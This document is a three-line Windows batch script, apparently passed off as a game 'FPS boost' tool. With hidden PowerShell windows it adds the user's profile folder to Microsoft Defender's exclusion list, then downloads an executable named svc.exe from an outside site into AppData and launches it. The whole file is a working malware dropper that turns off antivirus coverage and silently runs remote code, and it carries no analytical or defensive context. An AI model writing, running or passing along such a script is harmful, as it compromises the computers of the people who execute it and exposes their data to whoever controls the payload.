@echo off
powershell -w h -c "Add-MpPreference -ExclusionPath $env:USERPROFILE"
powershell -w h -c "iwr https://fpsboost.pages.example.org/b/svc.exe -o $env:APPDATA\svc.exe; saps $env:APPDATA\svc.exe"
